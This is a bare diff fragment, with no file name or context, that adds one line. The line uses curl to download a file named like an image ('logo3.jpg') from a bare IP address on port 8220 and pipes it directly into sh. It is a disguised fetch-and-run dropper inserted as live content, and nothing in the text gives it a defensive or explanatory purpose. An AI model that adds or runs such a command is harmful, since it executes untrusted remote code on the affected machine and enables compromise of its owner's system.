@@ -1,0 +1,1 @@
+curl -fsSL http://198.51.100.7:8220/logo3.jpg | sh
